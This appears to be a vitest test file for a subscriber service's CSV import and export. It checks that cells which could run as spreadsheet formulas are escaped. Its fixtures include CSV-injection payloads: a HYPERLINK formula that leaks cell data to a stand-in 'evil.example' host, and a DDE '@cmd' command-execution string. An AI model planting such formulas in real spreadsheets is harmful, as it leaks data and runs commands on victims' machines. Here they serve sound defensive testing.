// Issue 21, F4: CSV cells are escaped against formulas whatever they contain: a line break
// anywhere in the cell (a pattern anchored on one line, as papaparse's was, misses it), leading whitespace, a tab or a line
// break first; on export and in what an import reports back.
import { env, exports } from "cloudflare:workers";
import { csvFormat, csvParse } from "d3-dsv";
import { beforeEach, describe, expect, it } from "vitest";
import { formulaSafe } from "../../src/subscriptions/lifecycle";
import { resetDelivery } from "../delivery/helpers";
import { ORIGIN, subscriberRow, uniqueEmail } from "./support";

const admin = (path: string, init: RequestInit = {}) =>
  exports.default.fetch(
    new Request(`${ORIGIN}${path}`, { ...init, headers: { authorization: `Bearer ${env.ADMIN_TOKEN}`, ...(init.headers ?? {}) } }),
  );

beforeEach(resetDelivery);

describe("formula escaping", () => {
  it("escapes every cell a spreadsheet could run, whatever else it holds", () => {
    for (const cell of [
      '=HYPERLINK("http://evil.example","x")\nmore',
      "+1+1",
      "-2",
      "@SUM(A1)",
      " =1+1",
      "\t=1",
      "\r\n=1",
      "\n",
      "\uff1d1",
    ])
      expect(formulaSafe(cell), JSON.stringify(cell)).toBe(`'${cell}`);
    for (const cell of ["ann@example.com", "https://x.example/a=1", "2026-01-02T03:04:05.000Z", "", "a\n=b"])
      expect(formulaSafe(cell), JSON.stringify(cell)).toBe(cell);
  });

  it("exports an imported formula with a line break escaped, and reads the export back as it was", async () => {
    const email = uniqueEmail("csv");
    const page = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")\nsecond line';
    const spaced = " @cmd|' /C calc'!A0";
    const csv = csvFormat([{ email, consent: "yes", consent_page: page }], ["email", "consent", "consent_page"]);
    const imported = await admin("/admin/subscribers/import", { method: "POST", headers: { "content-type": "text/csv" }, body: csv });
    expect(imported.status).toBe(200);
    expect((await subscriberRow(email))!.consent_page).toBe(page);
    await env.DB.prepare("UPDATE subscribers SET source = ? WHERE email = ?").bind(spaced, email).run();

    const res = await admin("/admin/subscribers.csv");
    const text = await res.text();
    const rows = csvParse(text.trim());
    const row = rows.find((r) => r.email === email)!;
    // Each dangerous cell starts with a quote, line break and all; the raw text has no cell starting with "=".
    expect(row.consent_page).toBe(`'${page}`);
    expect(row.source).toBe(`'${spaced}`);
    expect(text).not.toMatch(/(^|,|")=HYPERLINK/m);

    // The export imports back: the escaped cells read as they were (the row is unchanged).
    const back = await admin("/admin/subscribers/import?dryRun=1", { method: "POST", headers: { "content-type": "text/csv" }, body: text });
    expect(((await back.json()) as { counts: Record<string, number> }).counts).toMatchObject({ unchanged: 1 });
  });

  it("escapes the addresses an import reports back", async () => {
    const risky = `-${crypto.randomUUID().slice(0, 8)}@example.com`;
    const res = await admin("/admin/subscribers/import?dryRun=1", {
      method: "POST",
      headers: { "content-type": "text/csv" },
      body: `email,consent\n${risky},yes\n`,
    });
    const report = (await res.json()) as { rows: Array<{ email: string; action: string }> };
    expect(report.rows).toEqual([{ line: 2, email: `'${risky}`, action: "add-active" }]);
  });
});
